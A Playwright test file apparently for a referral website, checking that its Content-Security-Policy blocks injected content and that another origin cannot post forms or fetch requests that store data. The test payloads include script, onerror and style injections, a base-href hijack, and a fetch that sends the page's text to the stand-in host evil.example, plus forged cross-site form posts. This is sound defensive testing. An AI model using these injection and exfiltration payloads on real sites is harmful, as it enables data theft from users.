import type { Page } from '@playwright/test';
import { pathTo } from '../../domain/pages.ts';
import { startOtherSite } from '../other-origin.ts';
import { contact, fillForm, formOn } from '../posted-forms.ts';
import { expectMessage, fillAtOnce, referral, submitButton } from '../referral-form.ts';
import { expect, startSite, test } from '../site.ts';

/** Collects the violations of the Content-Security-Policy, in every frame. */
async function watchViolations(page: Page) {
  const violations: string[] = [];
  await page.exposeFunction('reportViolation', (text: string) => violations.push(text));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) => {
      const { reportViolation } = window as unknown as { reportViolation(text: string): void };
      reportViolation(`${location.pathname}: ${effectiveDirective} ${blockedURI} (${sourceFile})`);
    });
  });
  return violations;
}

test('The Content-Security-Policy blocks nothing in the forms, including toast and frame', async ({ page }) => {
  const violations = await watchViolations(page);
  await fillAtOnce(page, 'en', { businessName: 'Policy' });
  await submitButton(page, 'en').click();
  await expectMessage(page, 'savedOnline');
  await fillForm(page, contact, 'en', { ...contact.values, email: 'policy@example.com' });
  await formOn(page, contact, 'en').submit.click();
  await expect(page.getByRole('status').filter({ hasText: contact.words.en.success.title })).toBeVisible();
  await page.goto(pathTo('form', 'en'));
  await expect(page.frameLocator('iframe').getByRole('form')).toBeVisible();
  expect(violations).toEqual([]);
});

test('The Content-Security-Policy blocks scripts, styles, images and requests injected into a page', async ({
  page,
}) => {
  const violations = await watchViolations(page);
  const asked: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  await page.route(`**${pathTo('referral', 'en')}`, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('<head>', '<head><base href="https://evil.example/">');
    await route.fulfill({ response, body: body.replace('</body>', `${injections}</body>`) });
  });
  await page.goto(pathTo('referral', 'en'));
  await page.evaluate(tryInjections);
  const refused = () => new Set(violations.map((violation) => violation.split(' ')[1]));
  await expect.poll(refused).toEqual(new Set(violatedDirectives));
  expect(await page.evaluate(() => 'injected' in window)).toBe(false);
  expect(asked).toEqual([]);
});

/** The directives that the injections below violate. */
const violatedDirectives = ['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'img-src'].concat(
  ['connect-src', 'frame-src', 'base-uri', 'font-src', 'require-trusted-types-for', 'trusted-types'],
);

/** In the page itself, as if the server had not escaped a text. */
const injections = `<script>window.injected = 1</script>
  <script src="https://evil.example/x.js"></script>
  <img src="https://evil.example/x.png">
  <img src="data:image/png," onerror="window.injected = 2">
  <style>@font-face { font-family: evil; src: url(https://evil.example/x.woff2) } body { color: red }</style>
  <p style="color: red">red</p>
  <iframe src="https://evil.example/"></iframe>`;

/** Runs in the page, as a script of ours that makes HTML of a text would. */
function tryInjections() {
  const quietly = (attempt: () => unknown) => {
    try {
      attempt();
    } catch {
      // Refused.
    }
  };
  quietly(() => document.createRange().createContextualFragment('<p>injected</p>'));
  quietly(() => window.trustedTypes?.createPolicy('evil', {}));
  fetch('https://evil.example/', { method: 'POST', body: document.body.textContent }).catch(() => {});
  new FontFace('evil', 'url(https://evil.example/y.woff2)').load().catch(() => {});
}

test('Another site can store nothing, neither with forms nor with fetch', async ({ page }) => {
  const site = await startSite();
  const form = (path: string, values: object, type = 'application/x-www-form-urlencoded') =>
    `<form method="post" enctype="${type}" action="${site.url}${path}" target="_blank">${Object.entries(values)
      .map(([name, value]) => `<input name="${name}" value="${value}">`)
      .join('')}<button>Post</button></form>`;
  const otherSite = await startOtherSite(
    [
      form('/api/submit-referral', { ...referral, confirmContact: 'on' }),
      form('/api/send-message', { ...contact.values, email: 'forged@example.com' }),
      form('/api/subscribe', { email: 'forged@example.com', consent: 'on' }, 'text/plain'),
      form('/api/unsubscribe', { token: 'x' }),
    ].join(''),
  );
  try {
    await page.goto(otherSite.url);
    const statuses: number[] = [];
    page.context().on('response', (response) => {
      if (response.request().method() === 'POST') statuses.push(response.status());
    });
    for (const button of await page.getByRole('button').all()) await button.click();
    await expect.poll(() => statuses.toSorted()).toEqual([403, 403, 403, 415]);
    const commit = `${site.url}/v1/projects/encore/databases/(default)/documents:commit`;
    const outcomes = await page.evaluate(
      async ({ addresses, body }) => {
        const outcome = (address: string, init: RequestInit) =>
          fetch(address, { method: 'POST', body, ...init }).then(
            ({ type, status }) => `${type} ${status}`,
            () => 'refused',
          );
        const json = { headers: { 'Content-Type': 'application/json' } };
        const all = addresses.flatMap((address) => [
          outcome(address, {}),
          outcome(address, json),
          outcome(address, { mode: 'no-cors', credentials: 'include' }),
        ]);
        return Promise.all(all);
      },
      {
        addresses: [commit, `${site.url}/api/submit-referral`, `${site.url}/api/send-message`],
        body: JSON.stringify(referral),
      },
    );
    // Requests without a preflight are sent, but the other site cannot read the response and nothing is stored.
    expect(new Set(outcomes)).toEqual(new Set(['refused']));
    for (const collection of ['referrals', 'messages', 'subscribers'] as const) {
      expect(await site.documents(collection)).toEqual([]);
      expect(await site.quarantined(collection)).toEqual([]);
    }
  } finally {
    otherSite.stop();
    await site.stop();
  }
});
